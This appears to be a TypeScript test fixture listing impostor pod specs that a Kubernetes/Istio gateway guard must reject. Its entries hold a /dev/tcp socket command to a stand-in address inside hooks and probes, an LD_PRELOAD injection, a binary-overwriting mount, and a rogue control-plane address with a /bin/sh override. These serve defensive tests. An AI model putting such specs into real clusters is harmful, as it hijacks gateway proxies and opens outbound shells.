/** Fields that are laid over those of the gateway's own pod, or of its proxy. */
type Fields = Readonly<Record<string, unknown>>;

/** A pod that says of itself what a gateway pod says, and runs what somebody else wants. */
export interface Impostor {
    /** Its case is `gateway-maker/<name>`. */
    readonly name: string;
    /** What runs, as the subject of a sentence. */
    readonly words: string;
    readonly proxy?: Fields;
    readonly pod?: Fields;
    readonly annotations?: Readonly<Record<string, string>>;
}

const shell = { exec: { command: ["bash", "-c", "exec 3<>/dev/tcp/203.0.113.9/443"] } };

/**
 * Every one that the guard's cases and the proof of C2 try. Nothing that a pod says tells these from the gateway: only who makes
 * them does.
 */
export const IMPOSTORS: readonly Impostor[] = [
    { name: "exact", words: "another program under the proxy's own name and image" },
    {
        name: "foreign-registry",
        words: "an image called proxyv2 from a stranger's registry",
        proxy: { image: "registry.stranger.example/proxyv2:1" },
    },
    {
        name: "post-start",
        words: "the gateway's proxy with a hook after its start",
        proxy: { lifecycle: { postStart: shell } },
    },
    {
        name: "pre-stop",
        words: "the gateway's proxy with a hook before its end",
        proxy: { lifecycle: { preStop: shell } },
    },
    { name: "liveness", words: "the gateway's proxy with a probe of its own", proxy: { livenessProbe: shell } },
    { name: "startup", words: "the gateway's proxy with a startup probe of its own", proxy: { startupProbe: shell } },
    {
        name: "library",
        words: "the gateway's proxy with a library of its own",
        proxy: { env: [{ name: "LD_PRELOAD", value: "/x.so" }] },
    },
    {
        name: "config-map",
        words: "the gateway's proxy with another program mounted over it",
        proxy: { volumeMounts: [{ name: "bin", mountPath: "/usr/local/bin" }] },
        pod: { volumes: [{ name: "bin", configMap: { name: "bin", defaultMode: 0o755 } }] },
    },
    {
        name: "template-file",
        words: "the gateway's proxy with a bootstrap template of its own",
        proxy: { args: ["proxy", "router", "--templateFile=/x"] },
    },
    {
        name: "bootstrap",
        words: "the gateway's proxy with a bootstrap of its own",
        annotations: { "sidecar.istio.io/bootstrapOverride": "own" },
    },
    {
        name: "discovery",
        words: "the gateway's proxy with another control plane",
        annotations: {
            "proxy.istio.io/config": '{"discoveryAddress": "istiod.evil.example:15012", "binaryPath": "/bin/sh"}',
        },
    },
];
